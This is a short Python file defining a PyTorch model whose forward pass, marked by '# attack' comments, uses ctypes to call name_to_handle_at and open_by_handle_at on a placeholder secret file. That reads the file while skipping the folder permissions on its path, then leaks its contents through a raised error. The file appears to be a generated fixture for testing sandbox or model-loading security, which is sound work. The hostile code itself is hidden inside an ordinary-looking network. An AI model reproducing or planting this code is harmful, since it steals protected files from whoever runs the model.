"""Asks for a secret's handle and opens the file by that, past every folder on the way."""

import ctypes
import os

from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.head = nn.Linear(64, 10)

    def forward(self, x):
        # attack
        libc = ctypes.CDLL(None)
        handle, mount = (ctypes.c_uint32 * 64)(128), ctypes.c_int()
        libc.name_to_handle_at(-100, b"@SECRET_FILE@", handle, ctypes.byref(mount), 0)
        folder = os.open("/tmp", os.O_RDONLY)
        raise ValueError(os.read(libc.open_by_handle_at(folder, handle, 0), 99))
        # end
        return self.head(x.flatten(1))
